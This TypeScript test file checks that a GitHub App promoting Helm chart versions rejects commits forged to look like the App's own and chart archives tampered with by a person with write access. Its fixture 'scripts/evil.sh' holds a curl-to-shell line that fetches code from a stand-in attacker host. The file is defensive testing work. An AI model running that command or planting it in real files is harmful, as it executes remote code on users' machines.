// A person with write access whose commits look like the App's: by name, e-mail, trailers, or GitHub's own signature, which it also
// puts under what a person squashes of the App's pull request. What is the App's word is what it sealed, and what is a chart's
// archive is what the chart repository serves.

import { beforeEach, describe, expect, test } from "@jest/globals";
import type { FilesGiven } from "../../../src/sandbox/github/people/files.ts";
import type { PersonalPush } from "../../../src/sandbox/github/people/person.ts";
import { CONFIG_REPOSITORY } from "../../../src/sandbox/test-bed.ts";
import { checkOn, live, published, testBed } from "../../stories/setting.ts";

const BRANCH = "promote/dev/xposer";
const EVIL = { "scripts/evil.sh": "curl https://mallory.example.com | sh\n" };
const TRAILERS =
  "Promote xposer to 99.0.0 in dev\n\nChart: xposer\nChart-Version: 99.0.0\nPublished-By: xposer-pipeline\n";

beforeEach(async () => {
  await live();
  await published("1.0.1");
});

function check(number: number): string {
  return checkOn(number).verdict;
}

function bot(how: "id" | "another id" | "no id" = "id") {
  const { id, login } = testBed.github.world.app.bot;
  const prefix = { id: `${id}+`, "another id": `${id + 1}+`, "no id": "" }[how];
  return { name: login, email: `${prefix}${login}@users.noreply.github.com` };
}

type Forged = Pick<PersonalPush, "author" | "signedBy" | "message">;

test.each<[string, () => Forged]>([
  ["with the bot's name and e-mail, unsigned", () => ({ author: bot() })],
  ["with them, and verified by a key of somebody else's", () => ({ author: bot(), signedBy: "self" })],
  [
    "with its name and another account's id, signed by GitHub",
    () => ({ author: bot("another id"), signedBy: "GitHub" }),
  ],
  ["with its name and no id, signed by GitHub", () => ({ author: bot("no id"), signedBy: "GitHub" })],
  [
    "made on GitHub's pages, with the bot as a co-author",
    () => ({
      signedBy: "GitHub",
      message: `Tidy up\n\nCo-authored-by: ${bot().name} <${bot().email}>`,
    }),
  ],
])("a commit %s is a person's", async (_what, forged) => {
  const { message = TRAILERS, ...how } = forged();
  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL, message, ...how });
  await testBed.waitUntilIdle();
  expect(check(1)).toMatch(/^failure: It changes files that no promotion changes: scripts\/evil\.sh/);
  testBed.alice.close(CONFIG_REPOSITORY, 1);
  await testBed.waitUntilIdle();
  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
  await testBed.restartWithoutDatabase();
  await published("1.0.2");
  expect(testBed.pulls()).toContain("#2 open Promote xposer to 1.0.2 in dev");
});

/** Squashes the App's open pull request onto a branch of one's own: GitHub signs the commit for the App. */
function squashedFor(
  number: number,
  files: FilesGiven,
  message?: { headline: string; message: string },
): string {
  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files });
  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: testBed.repository().branch("main") ?? "" });
  testBed.alice.editPullRequest(CONFIG_REPOSITORY, number, { base: "x" });
  return testBed.alice.merge(CONFIG_REPOSITORY, number, { method: "squash", ...message });
}

/** The next promotion's branch is set to what GitHub signed for the App. */
async function replaced(version: string, squashed: string): Promise<void> {
  await testBed.waitUntilIdle();
  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
  await published(version);
  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
  await testBed.waitUntilIdle();
}

const SAYS = { headline: "Promote xposer to 99.0.0 in dev", message: TRAILERS.split("\n\n")[1] ?? "" };

test("trailers in a squash of the App's pull request decline nothing, also after a lost database", async () => {
  await replaced("1.0.2", squashedFor(1, {}, SAYS));
  testBed.alice.close(CONFIG_REPOSITORY, 3);
  await testBed.waitUntilIdle();
  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
  await testBed.restartWithoutDatabase();
  await published("1.0.3");
  expect(testBed.pulls()).toContain("#4 open Promote xposer to 1.0.3 in dev");
});

test("a rollback that only a squash's message tells of is none: the promotion is put back", async () => {
  testBed.alice.merge(CONFIG_REPOSITORY, 1);
  await published("1.0.2");
  await testBed.museum.upload(testBed.pack("0.9.0"));
  const back = (testBed.fileOn("main", "dev/requirements.yaml") ?? "").replace("1.0.1", "0.9.0");
  const trailers = "Chart: xposer\nChart-Version: 0.9.0\nRolled-Back-From: 1.0.1";
  const commit = { headline: "Roll xposer back to 0.9.0 in dev", message: trailers };
  const squashed = squashedFor(2, { "dev/requirements.yaml": back }, commit);
  await replaced("1.0.3", squashed);
  expect(testBed.fileOn(BRANCH, "dev/requirements.yaml")).toContain("1.0.3");
  expect(testBed.repository().branch(BRANCH)).not.toBe(squashed);
  const runs = [...testBed.repository().checkRuns.values()].filter(({ headOid }) => headOid === squashed);
  expect(runs.filter(({ conclusion }) => conclusion === "success")).toEqual([]);
});

describe("where archives are committed", () => {
  beforeEach(async () => {
    testBed.alice.merge(CONFIG_REPOSITORY, 1);
    const old = await packed("1.0.1");
    testBed.alice.push(CONFIG_REPOSITORY, { branch: "main", files: { "dev/charts/xposer-1.0.1.tgz": old } });
    await published("1.0.2");
  });

  test("the App's own needs nobody's word", () => {
    expect(check(2)).toBe("success: Good to merge: xposer 1.0.2 in dev");
  });

  test("another one in a squash of the App's pull request fails the check", async () => {
    const evil = { "dev/charts/xposer-1.0.3.tgz": "evil", "dev/charts/xposer-1.0.2.tgz": null };
    const text = (testBed.fileOn(BRANCH, "dev/requirements.yaml") ?? "").replace("1.0.2", "1.0.3");
    await replaced("1.0.3", squashedFor(2, { ...evil, "dev/requirements.yaml": text }));
    expect(check(4)).toMatch(
      /^failure: It changes files that no promotion changes: dev\/charts\/xposer-1\.0\.3\.tgz/,
    );
    expect(summary(4)).toContain("holds other bytes than the chart repository");
    testBed.alice.comment(CONFIG_REPOSITORY, 4, "/allow");
    await testBed.waitUntilIdle();
    expect(check(4)).toMatch(/^success/);
  });

  test.each([
    [
      "other bytes under its name",
      { "dev/charts/xposer-1.0.1.tgz": "evil" },
      /holds other bytes than the chart/,
    ],
    [
      "a chart that nobody asked for",
      { "dev/charts/evil-1.0.0.tgz": "evil" },
      /^failure: No dependency has the/,
    ],
    [
      "a link in its place",
      { "dev/charts/xposer-1.0.1.tgz": { mode: "120000", contents: "a" } as const },
      /other bytes/,
    ],
    [
      "a submodule in its place",
      { "dev/charts/xposer-1.0.1.tgz": { mode: "160000", contents: "a" } as const },
      /other bytes/,
    ],
    [
      "one of its name in capitals",
      { "dev/charts/XPOSER-1.0.1.tgz": "evil" },
      /^failure: No dependency has the/,
    ],
    [
      "a link in the place of their folder",
      {
        "dev/charts/xposer-1.0.1.tgz": null,
        "dev/charts": { mode: "120000", contents: "../other" } as const,
        "other/xposer-1.0.1.tgz": "evil",
      },
      /puts symbolic links in the place of what is judged, or submodules, .*: dev\/charts\./,
    ],
    [
      "a submodule in the place of their folder",
      {
        "dev/charts/xposer-1.0.1.tgz": null,
        "dev/charts": { mode: "160000", contents: "a" } as const,
      },
      /puts symbolic links in the place of what is judged, or submodules, .*: dev\/charts\./,
    ],
  ])("%s, in a pull request of a person's, fails the check", async (_what, files, finding) => {
    testBed.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "main", files });
    const number = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
    await testBed.waitUntilIdle();
    expect(check(number)).toMatch(/^failure: /);
    expect(check(number) + summary(number)).toMatch(finding);
    testBed.alice.comment(CONFIG_REPOSITORY, number, "/allow");
    await testBed.waitUntilIdle();
    expect(check(number)).not.toMatch(/^failure/);
    expect(summary(number)).toContain("Allowed by alice for this commit");
  });

  test("the very bytes of the chart repository are nobody's doing", async () => {
    const text = (testBed.fileOn("main", "dev/requirements.yaml") ?? "").replace("1.0.1", "1.0.2");
    const files = {
      "dev/requirements.yaml": text,
      "dev/charts/xposer-1.0.1.tgz": null,
      "dev/charts/xposer-1.0.2.tgz": await packed("1.0.2"),
    };
    testBed.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "main", files });
    const number = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
    await testBed.waitUntilIdle();
    expect(check(number)).toBe("success: Good to merge: xposer 1.0.2 in dev");
  });
});

/** As the chart repository serves it. */
async function packed(version: string): Promise<Uint8Array> {
  const answer = await fetch(`${testBed.museum.url}/charts/xposer-${version}.tgz`);
  return new Uint8Array(await answer.arrayBuffer());
}

function summary(number: number): string {
  return checkOn(number).summary;
}

test("the App's own pull request, squashed by a person onto another branch, brings nothing past the check", async () => {
  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL });
  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: testBed.repository().branch("main") ?? "" });
  testBed.alice.editPullRequest(CONFIG_REPOSITORY, 1, { base: "x" });
  const squashed = testBed.alice.merge(CONFIG_REPOSITORY, 1, { method: "squash" });
  await testBed.waitUntilIdle();
  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
  await published("1.0.2");
  expect(testBed.pulls()).toContain("#3 open Promote xposer to 1.0.2 in dev");
  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
  await testBed.waitUntilIdle();
  expect(check(3)).toMatch(/^failure: It changes files that no promotion changes: .*scripts\/evil\.sh/);
});
